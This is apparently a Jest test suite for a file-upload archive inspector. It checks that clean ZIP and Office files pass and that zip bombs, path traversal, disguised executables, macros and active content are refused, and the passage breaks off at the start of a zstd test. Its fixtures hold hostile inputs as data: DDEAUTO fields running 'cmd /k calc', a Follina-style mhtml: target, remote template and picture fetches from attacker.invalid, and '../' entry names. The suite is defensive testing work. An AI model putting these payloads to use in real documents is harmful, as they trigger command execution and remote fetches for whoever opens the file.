import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { deflateRawSync } from 'node:zlib';
import { AppError } from '@intake/shared/errors';
import { MIME_DOCX, MIME_TEXT, MIME_ZIP } from '@intake/shared/mime-types';
import {
  complexField,
  docm,
  docxWithAttachedTemplate,
  docxWithBody,
  docxWithExternalLink,
  docxWithStoryPart,
  docxWithVbaRelationship,
  EXECUTABLE_HEADS,
  gzipped,
  honestZerosBomb,
  largeRepetitiveXlsx,
  lyingSizeBomb,
  manyEntriesZip,
  msiOle2,
  nestedZipBomb,
  packagedObjectOle2,
  packageStreamOle2,
  plainOle2,
  pptWithStorage,
  pptxWithLinkedPicture,
  quotedOverlapZip,
  rawZip,
  renamedVbaStorageOle2,
  sharedLocalHeaderZip,
  unicodePathExtra,
  vbaProjectOle2,
  visioDrawing,
  visioWithVbaModule,
  xlsWorkbook,
  xlsxWithExternalWorkbook,
  xlsxWithParts,
  docx,
  makeSampleDir,
  pptx,
  removeSampleDir,
  writeSample,
  xlsx,
  zipOf,
} from '@intake/test-files';
import { iso9660, v7Tar } from '../../test/disk-images.js';
import { buildRar } from '../../test/rar-writer.js';
import type { ArchiveLimits } from '../types.js';
import { DEFAULT_ARCHIVE_LIMITS } from './budget.js';
import { inspectArchive } from './index.js';
import { inspectZip } from './inspect-zip.js';
import { closeSevenZipPool } from './sevenzip-pool.js';

let dir: string;
let counter = 0;

beforeAll(async () => {
  dir = await makeSampleDir();
});

afterAll(async () => {
  await removeSampleDir(dir);
  // Nested RARs start 7-Zip workers; they must not keep the test process alive.
  await closeSevenZipPool();
});

async function inspect(bytes: Buffer, limits?: ArchiveLimits): Promise<void> {
  counter += 1;
  const path = await writeSample(dir, `sample-${counter}.zip`, bytes);
  await inspectZip(path, limits);
}

async function expectRefused(bytes: Buffer | Promise<Buffer>, code: string, limits?: ArchiveLimits): Promise<AppError> {
  const error: unknown = await inspect(await bytes, limits).then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(AppError);
  expect(error).toMatchObject({ code });
  return error as AppError;
}

const text = (value: string): Buffer => Buffer.from(value, 'utf8');

describe('inspectZip accepts real archives', () => {
  it('passes a plain zip, with folders and UTF-8 names', async () => {
    await expect(
      inspect(await zipOf({ 'hello.txt': 'Hello', 'docs/été/notes.md': '# notes\n', 'docs/data.csv': 'a,b\n1,2\n' })),
    ).resolves.toBeUndefined();
  });

  it('passes an empty zip', async () => {
    await expect(inspect(rawZip([]))).resolves.toBeUndefined();
  });

  it('passes DOCX, XLSX and PPTX documents', async () => {
    await expect(inspect(await docx())).resolves.toBeUndefined();
    await expect(inspect(await xlsx())).resolves.toBeUndefined();
    await expect(inspect(await pptx())).resolves.toBeUndefined();
  });

  it('passes an XLSX whose large sheet compresses about 150:1', async () => {
    const workbook = await largeRepetitiveXlsx();
    const { inflatedBytes, compressedBytes } = sheetSizes(workbook);
    const ratio = inflatedBytes / compressedBytes;
    expect(inflatedBytes).toBeGreaterThan(DEFAULT_ARCHIVE_LIMITS.ratioGraceBytes);
    expect(ratio).toBeGreaterThan(130);
    expect(ratio).toBeLessThan(DEFAULT_ARCHIVE_LIMITS.maxRatio);
    await expect(inspect(workbook)).resolves.toBeUndefined();
  });

  it('passes a stored (uncompressed) zip and small very compressible entries under the grace size', async () => {
    await expect(
      inspect(await zipOf({ 'a.txt': 'abc', 'b.bin': Buffer.alloc(1000) }, { compress: false })),
    ).resolves.toBeUndefined();
    await expect(inspect(await zipOf({ 'spaces.txt': ' '.repeat(512 * 1024) }))).resolves.toBeUndefined();
  });

  it('passes a DOCX inside a zip, a plain OLE2 document and an .emz (gzip) picture', async () => {
    const inner = await docx({ extraEntries: { 'word/media/image1.emz': gzipped(Buffer.from(' EMF'.repeat(100))) } });
    await expect(inspect(await zipOf({ 'report.docx': inner, 'old.doc': plainOle2() }))).resolves.toBeUndefined();
  });

  it('passes a clean RAR inside a zip', async () => {
    const rar = buildRar([{ name: 'docs/notes.txt', data: text('hello') }]);
    await expect(inspect(await zipOf({ 'docs.rar': rar }))).resolves.toBeUndefined();
  });

  it('passes an OOXML embedding that packages a harmless file', async () => {
    const embedding = packagedObjectOle2('notes.txt', text('just notes\n'));
    await expect(
      inspect(await docx({ extraEntries: { 'word/embeddings/oleObject1.bin': embedding } })),
    ).resolves.toBeUndefined();
  });

  it('passes entries streamed with data descriptors (LibreOffice, Java, macOS)', async () => {
    const bytes = rawZip([
      { name: 'a.txt', content: 'hello '.repeat(100), dataDescriptor: true },
      { name: 'b.txt', content: 'stored', method: 0, dataDescriptor: true },
    ]);
    await expect(inspect(bytes)).resolves.toBeUndefined();
  });

  it('passes a picture compressed with gzip in a document nested as deep as allowed', async () => {
    const picture = gzipped(Buffer.from(' EMF'.repeat(1000)));
    const inner = await docx({ extraEntries: { 'word/media/image1.emz': picture } });
    const outer = await docx({ extraEntries: { 'word/embeddings/Document1.docx': inner } });
    await expect(inspect(await zipOf({ 'report.docx': outer }))).resolves.toBeUndefined();
  });

  it('passes a DOCX, PPTX and zip with a stray byte or two after the end of central directory', async () => {
    for (const bytes of [await docx(), await pptx(), await zipOf({ 'a.txt': 'hello' })]) {
      await expect(inspect(Buffer.concat([bytes, Buffer.from('\n')]))).resolves.toBeUndefined();
      await expect(inspect(Buffer.concat([bytes, Buffer.from([0, 0])]))).resolves.toBeUndefined();
    }
    const nested = Buffer.concat([await docx(), Buffer.from('\r\n')]);
    await expect(inspect(await zipOf({ 'report.docx': nested }))).resolves.toBeUndefined();
  });

  it('passes Shift-JIS and GBK names whose 0x5C byte is a trail byte (表, ソ, 誠), as Japanese and Chinese Windows write them', async () => {
    const shiftJis = Buffer.from([0x95, 0x5c, 0x8e, 0xa6, 0x2e, 0x74, 0x78, 0x74]); // 表示.txt
    const katakana = Buffer.from([0x83, 0x5c, 0x83, 0x74, 0x83, 0x67, 0x2f, 0x61, 0x2e, 0x74, 0x78, 0x74]); // ソフト/a.txt
    const gbk = Buffer.from([0xd5, 0x5c, 0x2e, 0x70, 0x64, 0x66]); // 誠.pdf
    const entries = [shiftJis, katakana, gbk].map((name) => ({ name, content: 'x', flags: 0 }));
    await expect(inspect(rawZip(entries))).resolves.toBeUndefined();
    const withUnicodePath = {
      name: shiftJis,
      content: 'x',
      flags: 0,
      centralExtra: unicodePathExtra(shiftJis, '表示.txt'),
    };
    await expect(inspect(rawZip([withUnicodePath]))).resolves.toBeUndefined();
  });

  it('passes a non-ASCII CP437 name with an agreeing Unicode path field', async () => {
    const raw = Buffer.from([0x82, 0x74, 0x82, 0x2e, 0x74, 0x78, 0x74]); // "étè.txt"-ish in CP437
    await expect(
      inspect(rawZip([{ name: raw, content: 'x', centralExtra: unicodePathExtra(raw, 'été.txt') }])),
    ).resolves.toBeUndefined();
  });
});

describe('inspectZip refuses bombs (archive_bomb)', () => {
  it('refuses more entries than allowed, from the directory record alone', async () => {
    const started = performance.now();
    const error = await expectRefused(manyEntriesZip(10_001), 'archive_bomb');
    expect(error.detail).toMatch(/entries/u);
    expect(performance.now() - started).toBeLessThan(2000);
    await expect(inspect(manyEntriesZip(500))).resolves.toBeUndefined();
  });

  it('refuses a total declared size over the limit', async () => {
    const limits = { ...DEFAULT_ARCHIVE_LIMITS, maxTotalUncompressedBytes: 100_000 };
    const error = await expectRefused(
      zipOf({ 'a.txt': 'a'.repeat(60_000), 'b.txt': 'b'.repeat(60_000) }),
      'archive_bomb',
      limits,
    );
    expect(error.detail).toMatch(/declares more/u);
  });

  it('refuses a 10 GiB honest bomb from its declared size, without inflating it', async () => {
    const bomb = honestZerosBomb();
    const started = performance.now();
    await expectRefused(bomb, 'archive_bomb');
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('refuses an entry compressed beyond the ratio once past the grace size', async () => {
    const error = await expectRefused(zipOf({ 'zeros.txt': Buffer.alloc(4 * 1024 * 1024) }), 'archive_bomb');
    expect(error.detail).toMatch(/ratio/u);
  });

  it('refuses an entry that inflates beyond its declared size, stopping at once (10 GiB behind 1 KiB)', async () => {
    const bomb = lyingSizeBomb();
    const started = performance.now();
    const error = await expectRefused(bomb, 'archive_bomb');
    expect(error.detail).toMatch(/declared size/u);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('refuses a 42.zip-style nested bomb at the nesting limit, inflating only a few kilobytes', async () => {
    const bomb = await nestedZipBomb();
    const started = performance.now();
    const error = await expectRefused(bomb, 'archive_bomb');
    expect(error.detail).toMatch(/nests/u);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('refuses the nested bomb from its declared sizes when nesting is allowed deeper', async () => {
    const limits = { ...DEFAULT_ARCHIVE_LIMITS, maxNestingDepth: 10 };
    await expectRefused(nestedZipBomb(), 'archive_bomb', limits);
  });

  it('refuses a zip nested one level too deep, and accepts it at the limit', async () => {
    const level3 = await zipOf({ 'deep.txt': 'hello' });
    const level2 = await zipOf({ 'l3.zip': level3 });
    const level1 = await zipOf({ 'l2.zip': level2 });
    await expect(inspect(level1)).resolves.toBeUndefined();
    await expectRefused(zipOf({ 'l1.zip': level1 }), 'archive_bomb');
  });

  it('refuses two central entries sharing one local header', async () => {
    const error = await expectRefused(sharedLocalHeaderZip(), 'archive_bomb');
    expect(error.detail).toMatch(/overlap/u);
  });

  it('refuses an entry lying inside another one (Fifield overlap)', async () => {
    const error = await expectRefused(quotedOverlapZip(), 'archive_bomb');
    expect(error.detail).toMatch(/overlap/u);
  });

  it('refuses a central name that differs from the local header name', async () => {
    await expectRefused(rawZip([{ name: 'report.txt', localName: 'evil.txt', content: 'x' }]), 'archive_bomb');
  });

  it('refuses local sizes that differ from the central directory', async () => {
    const kernel = text('hello '.repeat(50));
    const lying = rawZip([{ name: 'a.txt', content: kernel }]);
    lying.writeUInt32LE(kernel.length * 100, 22); // local uncompressed size
    await expectRefused(lying, 'archive_bomb');
  });

  it('refuses a nested archive larger than the in-memory cap', async () => {
    const nested = await zipOf({ 'a.txt': 'x' });
    const padded = Buffer.concat([nested, Buffer.alloc(0)]);
    // Declared 40 MiB for a zip entry: refused before it is held in memory.
    const bytes = rawZip([{ name: 'big.zip', data: deflateRawSync(padded), uncompressedSize: 40 * 1024 * 1024 }]);
    await expectRefused(bytes, 'archive_bomb');
  });
});

describe('inspectZip refuses unsafe paths (archive_path_traversal)', () => {
  const unsafe: Array<[string, string | Buffer]> = [
    ['an absolute path', '/etc/passwd'],
    ['a drive letter', 'C:/Windows/win.ini'],
    ['a drive-relative path', 'C:evil.txt'],
    ['a parent segment', '../evil.txt'],
    ['a parent segment deeper down', 'docs/../../evil.txt'],
    ['a backslash', 'docs\\evil.txt'],
    ['a backslash parent', '..\\evil.txt'],
    ['a NUL byte', Buffer.from('safe.txt\0.exe', 'latin1')],
    ['a Windows-trimmed parent segment', '.. /evil.txt'],
    ['fullwidth look-alikes', '\uff0e\uff0e\uff0fevil.txt'],
    ['overlong UTF-8 dots', Buffer.from([0xc0, 0xae, 0xc0, 0xae, 0x2f, 0x78])],
    ['an empty name', ''],
  ];

  it.each(unsafe)('refuses %s', async (_label, name) => {
    const utf8 = typeof name === 'string' || name.some((byte) => byte >= 0x80) ? 0x800 : 0;
    const error = await expectRefused(rawZip([{ name, content: 'x', flags: utf8 }]), 'archive_path_traversal');
    expect(error.detail).toBe('An archive entry has an unsafe path.');
  });

  it('refuses a backslash that is no double-byte trail byte, or that makes a .. segment as a separator', async () => {
    const plain = Buffer.from('docs\\..\\..\\evil.txt', 'latin1');
    await expectRefused(rawZip([{ name: plain, content: 'x', flags: 0 }]), 'archive_path_traversal');
    const dotDot = Buffer.from([0x95, 0x5c, 0x2e, 0x2e, 0x2f, 0x61, 0x2e, 0x74, 0x78, 0x74]); // 表../a.txt
    await expectRefused(rawZip([{ name: dotDot, content: 'x', flags: 0 }]), 'archive_path_traversal');
    const flaggedUtf8 = Buffer.from([0x95, 0x5c, 0x2e, 0x74, 0x78, 0x74]);
    await expectRefused(rawZip([{ name: flaggedUtf8, content: 'x', flags: 0x800 }]), 'archive_path_traversal');
  });

  it('refuses a double-byte name that hides an executable extension', async () => {
    const name = Buffer.from([0x95, 0x5c, 0x2e, 0x65, 0x78, 0x65]); // 表.exe
    await expectRefused(rawZip([{ name, content: 'x', flags: 0 }]), 'archive_executable');
  });

  it('refuses a symlink entry', async () => {
    const symlink = { name: 'link', content: '/etc/passwd', externalAttributes: 0o120777 * 0x10000 };
    const error = await expectRefused(rawZip([symlink]), 'archive_path_traversal');
    expect(error.detail).toMatch(/symbolic link/u);
  });

  it('refuses a Unicode path field that disagrees with the raw name', async () => {
    await expectRefused(
      rawZip([{ name: 'safe.txt', content: 'x', centralExtra: unicodePathExtra('safe.txt', '../evil.txt') }]),
      'archive_path_traversal',
    );
    await expectRefused(
      rawZip([{ name: 'safe.txt', content: 'x', centralExtra: unicodePathExtra('safe.txt', 'other.txt') }]),
      'archive_path_traversal',
    );
  });

  it('refuses a Unicode path field in the local header only', async () => {
    await expectRefused(
      rawZip([{ name: 'safe.txt', content: 'x', localExtra: unicodePathExtra('safe.txt', 'evil.txt') }]),
      'archive_path_traversal',
    );
  });

  it('refuses an unsafe local name behind a safe central name', async () => {
    await expectRefused(
      rawZip([{ name: 'safe.txt', localName: '../evil.txt', content: 'x' }]),
      'archive_path_traversal',
    );
  });
});

describe('inspectZip refuses executables (archive_executable)', () => {
  it('refuses a program named readme.txt, by its magic bytes', async () => {
    await expectRefused(zipOf({ 'readme.txt': EXECUTABLE_HEADS.pe }), 'archive_executable');
  });

  it.each(Object.entries(EXECUTABLE_HEADS))('refuses %s content under an innocent name', async (_kind, head) => {
    await expectRefused(zipOf({ 'docs/notes.txt': Buffer.concat([head, Buffer.alloc(1024)]) }), 'archive_executable');
  });

  it.each([
    'setup.exe',
    'run.BAT',
    'x.ps1',
    'a.vbs',
    'evil.js',
    'app.jar',
    'install.msi',
    'link.lnk',
    'a.exe.',
    'run.sh',
    'Tool.app/Contents/Info.plist',
  ])('refuses %s by its extension', async (name) => {
    await expectRefused(zipOf({ [name]: 'plain text' }), 'archive_executable');
  });

  it('refuses names that run when opened on Windows, and an NTFS stream suffix hiding one', async () => {
    for (const name of ['help.chm', 'notes.one', 'x.settingcontent-ms', 'page.mht', 'index.php', 'tool.py']) {
      await expectRefused(zipOf({ [name]: 'plain text' }), 'archive_executable');
    }
    await expectRefused(rawZip([{ name: 'run.bat::$DATA', content: 'echo' }]), 'archive_path_traversal');
    await expectRefused(rawZip([{ name: 'x.vbs:', content: 'MsgBox 1' }]), 'archive_path_traversal');
  });

  it('passes an SVG picture in an OOXML media folder (Office 2016 icons)', async () => {
    await expect(
      inspect(await docx({ extraEntries: { 'word/media/image2.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>' } })),
    ).resolves.toBeUndefined();
  });

  it('refuses a program inside a nested zip', async () => {
    const inner = await zipOf({ 'readme.txt': EXECUTABLE_HEADS.elf });
    await expectRefused(zipOf({ 'photos.zip': inner }), 'archive_executable');
  });

  it('refuses a program inside a RAR inside the zip (handed to the 7z/RAR inspector)', async () => {
    const rar = buildRar([{ name: 'docs/readme.txt', data: EXECUTABLE_HEADS.pe }]);
    await expectRefused(zipOf({ 'docs.rar': rar }), 'archive_executable');
  });

  it('refuses a program inside a gzip member', async () => {
    await expectRefused(zipOf({ 'image.emz': gzipped(EXECUTABLE_HEADS.pe) }), 'archive_executable');
  });

  it('refuses an OOXML embedding that packages an executable, by name or by content', async () => {
    const byName = packagedObjectOle2('invoice.exe', text('harmless?'));
    await expectRefused(docx({ extraEntries: { 'word/embeddings/oleObject1.bin': byName } }), 'archive_executable');
    const byContent = packagedObjectOle2('invoice.txt', EXECUTABLE_HEADS.pe);
    await expectRefused(docx({ extraEntries: { 'word/embeddings/oleObject1.bin': byContent } }), 'archive_executable');
  });

  it('refuses a program inside a document embedded as an OLE2 Package stream', async () => {
    const embedded = await zipOf({
      'word/document.xml': '<w:document/>',
      'word/media/readme.txt': EXECUTABLE_HEADS.pe,
    });
    await expectRefused(
      docx({ extraEntries: { 'word/embeddings/oleObject1.bin': packageStreamOle2(embedded) } }),
      'archive_executable',
    );
  });

  it('refuses a Windows Installer package under another name', async () => {
    await expectRefused(zipOf({ 'data.dat': msiOle2() }), 'archive_executable');
  });

  it('refuses a program behind a Unicode path field naming it .exe', async () => {
    const raw = Buffer.from([0x82, 0x2e, 0x74, 0x78, 0x74]);
    await expectRefused(
      rawZip([{ name: raw, content: 'x', centralExtra: unicodePathExtra(raw, 'é.exe') }]),
      'archive_executable',
    );
  });
});

describe('inspectZip opens containers whose signature is not in their first bytes', () => {
  const program = (): { name: string; data: Buffer }[] => [{ name: 'notes.txt', data: EXECUTABLE_HEADS.pe }];

  it('refuses a program in a tar without a ustar marker, named .tar or not', async () => {
    await expectRefused(zipOf({ 'backup.tar': v7Tar(program()) }), 'archive_executable');
    await expectRefused(zipOf({ 'backup.dat': v7Tar(program()) }), 'archive_executable');
  });

  it('refuses a program in an ISO image (CD001 at 32,769), bare and gzipped', async () => {
    await expectRefused(zipOf({ 'disk.iso': iso9660(program()) }), 'archive_executable');
    await expectRefused(zipOf({ 'disk.iso.gz': gzipped(iso9660(program())) }), 'archive_executable');
    await expectRefused(zipOf({ 'disk.img': iso9660([{ name: 'setup.exe', data: 'x' }]) }), 'archive_executable');
  });

  it('refuses a container name 7-Zip cannot open (lz4, or a .tar that is no tar)', async () => {
    const lz4Frame = Buffer.concat([Buffer.from([0x04, 0x22, 0x4d, 0x18, 0x64, 0x40, 0xa7]), Buffer.alloc(32)]);
    await expectRefused(zipOf({ 'data.lz4': lz4Frame }), 'archive_unreadable');
    await expectRefused(zipOf({ 'backup.tar': 'not a tar at all' }), 'archive_unreadable');
  });

  it('passes a clean tar without a ustar marker, a clean ISO image, and empty container names', async () => {
    const clean = [{ name: 'notes.txt', data: 'just notes\n' }];
    await expect(
      inspect(await zipOf({ 'a.tar': v7Tar(clean), 'b.iso': iso9660(clean), 'c.gz': '' })),
    ).resolves.toBeUndefined();
  });
});

describe('inspectZip refuses macros (archive_macro)', () => {
  it('refuses vbaProject.bin anywhere', async () => {
    await expectRefused(docx({ extraEntries: { 'word/vbaProject.bin': vbaProjectOle2() } }), 'archive_macro');
    await expectRefused(zipOf({ 'misc/VBAPROJECT.BIN': 'x' }), 'archive_macro');
  });

  it('refuses a macro-enabled content type', async () => {
    await expectRefused(docm(), 'archive_macro');
  });

  it('refuses a macro-enabled content type spelled with character references', async () => {
    const spelled = 'application/vnd.ms-word.document.&#x6D;acro&#69;nabled.main+xml';
    await expectRefused(docx({ mainContentType: spelled }), 'archive_macro');
  });

  it('refuses a vbaProject relationship', async () => {
    await expectRefused(docxWithVbaRelationship(), 'archive_macro');
  });

  it('refuses a renamed OLE2 file holding VBA streams', async () => {
    await expectRefused(docx({ extraEntries: { 'word/media/image1.png': vbaProjectOle2() } }), 'archive_macro');
  });

  it('refuses Excel 4.0 (XLM) macro sheets and Excel 5 module sheets in a .xls, visible or very hidden', async () => {
    const xlm = xlsWorkbook([
      { name: 'Sheet1', type: 0 },
      { name: 'Macro1', type: 1, hidden: 2 },
    ]);
    await expectRefused(zipOf({ 'book.xls': xlm }), 'archive_macro');
    await expectRefused(zipOf({ 'book.xls': xlsWorkbook([{ name: 'Module1', type: 6 }]) }), 'archive_macro');
  });

  it('refuses a PowerPoint 97–2003 VBA project (compressed ExOleObjStg record)', async () => {
    await expectRefused(zipOf({ 'deck.ppt': pptWithStorage(vbaProjectOle2()) }), 'archive_macro');
    const hidden = pptWithStorage(vbaProjectOle2(), { insideAnotherAtom: true });
    await expectRefused(zipOf({ 'deck.ppt': hidden }), 'archive_macro');
  });

  it('refuses a PowerPoint 97–2003 VBA project whose zlib data lacks its closing Adler-32', async () => {
    const truncated = pptWithStorage(vbaProjectOle2(), { withoutAdler32: true });
    await expectRefused(zipOf({ 'deck.ppt': truncated }), 'archive_macro');
  });

  it('refuses a VBA module in a stream of its own (Visio) and a dir stream under another storage name', async () => {
    await expectRefused(zipOf({ 'drawing.vsd': visioWithVbaModule() }), 'archive_macro');
    await expectRefused(zipOf({ 'old.doc': renamedVbaStorageOle2() }), 'archive_macro');
  });

  it('refuses a VBA project a Visio 2003 drawing keeps as a compound file in its own streams', async () => {
    await expectRefused(zipOf({ 'drawing.vsd': visioDrawing(vbaProjectOle2()) }), 'archive_macro');
    await expectRefused(
      zipOf({ 'drawing.vsd': visioDrawing(vbaProjectOle2(), { compressed: false }) }),
      'archive_macro',
    );
    const embedded = packagedObjectOle2('notes.txt', EXECUTABLE_HEADS.pe);
    await expectRefused(zipOf({ 'drawing.vsd': visioDrawing(embedded) }), 'archive_executable');
  });

  it('passes a Visio 2003 drawing embedding a plain document, and refuses one of a version no reader knows', async () => {
    await expect(inspect(await zipOf({ 'drawing.vsd': visioDrawing(plainOle2()) }))).resolves.toBeUndefined();
    const unknown = visioDrawing(plainOle2());
    const at = unknown.indexOf(Buffer.from('Visio (TM) Drawing\r\n', 'latin1'));
    unknown.writeUInt16LE(9, at + 0x1a);
    await expectRefused(zipOf({ 'drawing.vsd': unknown }), 'archive_unreadable');
  });

  it('passes a .xls of worksheets and a .ppt embedding a plain document', async () => {
    const book = xlsWorkbook([
      { name: 'Sheet1', type: 0 },
      { name: 'Sheet2', type: 0 },
    ]);
    await expect(
      inspect(await zipOf({ 'book.xls': book, 'deck.ppt': pptWithStorage(plainOle2()) })),
    ).resolves.toBeUndefined();
  });

  it('refuses a program packaged in an object embedded in a .ppt', async () => {
    const embedded = packagedObjectOle2('notes.txt', EXECUTABLE_HEADS.pe);
    await expectRefused(zipOf({ 'deck.ppt': pptWithStorage(embedded) }), 'archive_executable');
  });

  it('refuses a macro-enabled document nested in a zip', async () => {
    await expectRefused(zipOf({ 'report.docx': await docm() }), 'archive_macro');
  });
});

describe('inspectZip refuses active content without macros (document_active_content)', () => {
  const sheet = (formula: string): string =>
    '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
    `<sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;

  it.each([
    ['an http template', 'http://attacker.invalid/t.dotm'],
    ['a UNC template', '\\\\attacker.invalid\\share\\t.dotm'],
    ['a WebDAV file URL', 'file://attacker.invalid/share/t.dotm'],
  ])('refuses a remote attachedTemplate: %s', async (_label, target) => {
    await expectRefused(docxWithAttachedTemplate(target), 'document_active_content');
  });

  it('refuses an external oleObject with an mhtml: target (Follina) and remote subDocument and frame', async () => {
    const follina = 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x.html';
    await expectRefused(docxWithExternalLink('oleObject', follina), 'document_active_content');
    await expectRefused(docxWithExternalLink('oleObject', 'https://attacker.invalid/o.bin'), 'document_active_content');
    await expectRefused(
      docxWithExternalLink('subDocument', 'https://attacker.invalid/s.docx'),
      'document_active_content',
    );
    await expectRefused(docxWithExternalLink('frame', 'https://attacker.invalid/f.html'), 'document_active_content');
  });

  it('refuses DDE and DDEAUTO fields, simple, complex, split over runs and spelled with references', async () => {
    const simple = '<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/>';
    await expectRefused(docxWithBody(simple), 'document_active_content');
    await expectRefused(docxWithBody(complexField(['DDE cmd "/c calc" A1'])), 'document_active_content');
    await expectRefused(docxWithBody(complexField([' DD', 'EAU', 'TO cmd "/c calc"'])), 'document_active_content');
    await expectRefused(docxWithBody(complexField([' &#x44;DEAUTO cmd'])), 'document_active_content');
  });

  it('refuses fields that fetch a remote file on open, in the body, headers, footers and footnotes', async () => {
    const picture = '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://attacker.invalid/p.png&quot; \\d "/>';
    await expectRefused(docxWithBody(picture), 'document_active_content');
    const included = complexField([' INCLUDETEXT "\\\\\\\\attacker.invalid\\\\share\\\\a.docx" ']);
    await expectRefused(docxWithStoryPart('header1', included), 'document_active_content');
    const link = complexField([' LINK Excel.Sheet.12 "https://attacker.invalid/b.xlsx" "Sheet1!R1C1" \\a ']);
    await expectRefused(docxWithStoryPart('footer1', link), 'document_active_content');
    await expectRefused(docxWithStoryPart('footnotes', picture), 'document_active_content');
  });

  it('refuses remote linked pictures in Word and PowerPoint and a workbook linked to a remote workbook', async () => {
    await expectRefused(docxWithExternalLink('image', 'https://attacker.invalid/p.png'), 'document_active_content');
    await expectRefused(pptxWithLinkedPicture('\\\\attacker.invalid\\share\\p.png'), 'document_active_content');
    await expectRefused(xlsxWithExternalWorkbook('https://attacker.invalid/b.xlsx'), 'document_active_content');
  });

  it('passes fields, pictures and workbook links that stay on the local machine', async () => {
    const local = complexField([' INCLUDEPICTURE "C:\\\\Pictures\\\\logo.png" \\d ']);
    await expect(inspect(await docxWithStoryPart('header1', local))).resolves.toBeUndefined();
    await expect(inspect(await pptxWithLinkedPicture('file:///C:/Pictures/logo.png'))).resolves.toBeUndefined();
    await expect(inspect(await xlsxWithExternalWorkbook('figures.xlsx'))).resolves.toBeUndefined();
  });

  it('refuses a DDE link and a DDE formula in a workbook', async () => {
    await expectRefused(
      xlsxWithParts({
        'xl/externalLinks/externalLink1.xml':
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
          '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
      'document_active_content',
    );
    await expectRefused(
      xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('cmd|&apos; /c calc&apos;!A0') }),
      'document_active_content',
    );
  });

  it('refuses a DDE field in a main part moved out of word/ (the relationships say where it is)', async () => {
    const body =
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>' +
      `${complexField(['DDEAUTO cmd'])}</w:p></w:body></w:document>`;
    await expectRefused(docx({ extraEntries: { 'content/main.xml': body } }), 'document_active_content');
  });

  it('passes a plain zip holding XML that is not well-formed', async () => {
    await expect(inspect(await zipOf({ 'templates/broken.xml': '<a><b></a>' }))).resolves.toBeUndefined();
  });

  it('refuses a document with active content nested in a zip', async () => {
    const inner = await docxWithBody(complexField(['DDEAUTO cmd']));
    await expectRefused(zipOf({ 'letter.docx': inner }), 'document_active_content');
  });

  it('passes a local template, a hyperlink, ordinary fields and formulas', async () => {
    await expect(
      inspect(await docxWithAttachedTemplate('file:///C:\\Users\\me\\Templates\\Letter.dotx')),
    ).resolves.toBeUndefined();
    await expect(
      inspect(await docxWithExternalLink('oleObject', 'file:///C:\\data\\figures.xlsx')),
    ).resolves.toBeUndefined();
    await expect(
      inspect(
        await docx({
          extraEntries: {
            'word/_rels/document.xml.rels':
              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
              'Target="https://example.org/" TargetMode="External"/></Relationships>',
          },
        }),
      ),
    ).resolves.toBeUndefined();
    await expect(
      inspect(
        await docxWithBody(complexField([' PAGE '], '1') + '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM&quot; "/>'),
      ),
    ).resolves.toBeUndefined();
    await expect(
      inspect(await xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('SUM(B1:B9)&amp;"a|b!c"') })),
    ).resolves.toBeUndefined();
  });
});

describe('inspectZip refuses what it cannot read (archive_unreadable)', () => {
  it('refuses more than a few bytes after the end of central directory', async () => {
    await expectRefused(
      Buffer.concat([await zipOf({ 'a.txt': 'hello' }), Buffer.alloc(17, 0x20)]),
      'archive_unreadable',
    );
  });

  it('still refuses a hidden local entry and overlapping entries when stray bytes follow the end', async () => {
    const hidden = rawZip([{ name: 'a.txt', content: 'visible' }], {
      beforeDirectory: rawZip([{ name: 'run.exe', content: 'MZ' }]).subarray(0, 40),
    });
    await expectRefused(Buffer.concat([hidden, Buffer.from('\n')]), 'archive_unreadable');
    await expectRefused(Buffer.concat([sharedLocalHeaderZip(), Buffer.from('\n')]), 'archive_bomb');
  });

  it('refuses an encrypted entry', async () => {
    await expectRefused(rawZip([{ name: 'secret.txt', content: 'x', flags: 0x1 }]), 'archive_unreadable');
  });

  it('refuses a truncated zip', async () => {
    const whole = await zipOf({ 'a.txt': 'hello world '.repeat(100), 'b.txt': 'more' });
    await expectRefused(whole.subarray(0, whole.length - 30), 'archive_unreadable');
    await expectRefused(whole.subarray(0, 40), 'archive_unreadable');
  });

  it('refuses an entry whose data is cut short inside a valid directory', async () => {
    const content = text('hello world '.repeat(100));
    await expectRefused(
      rawZip([{ name: 'a.txt', data: deflateRawSync(content).subarray(0, 20), content }]),
      'archive_unreadable',
    );
  });

  it('refuses a corrupt CRC', async () => {
    await expectRefused(rawZip([{ name: 'a.txt', content: 'hello', crc: 0x12345678 }]), 'archive_unreadable');
  });

  it('refuses a corrupt central directory', async () => {
    const bytes = await zipOf({ 'a.txt': 'hello' });
    const directory = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bytes[directory + 1] = 0x00;
    await expectRefused(bytes, 'archive_unreadable');
  });

  it('refuses an unsupported compression method', async () => {
    await expectRefused(rawZip([{ name: 'a.txt', content: 'x', method: 12 }]), 'archive_unreadable');
  });

  it('refuses data that no central entry covers (a hidden local entry)', async () => {
    const hidden = rawZip([{ name: 'evil.exe', content: 'MZ' }]);
    const visible = rawZip([{ name: 'a.txt', content: 'x' }], { beforeDirectory: hidden.subarray(0, 40) });
    await expectRefused(visible, 'archive_unreadable');
    await expectRefused(
      rawZip([{ name: 'a.txt', content: 'x' }], { prefix: Buffer.from('MZ junk') }),
      'archive_unreadable',
    );
  });

  it('refuses an archive inside the archive that nothing here opens (zstd)', async () => {
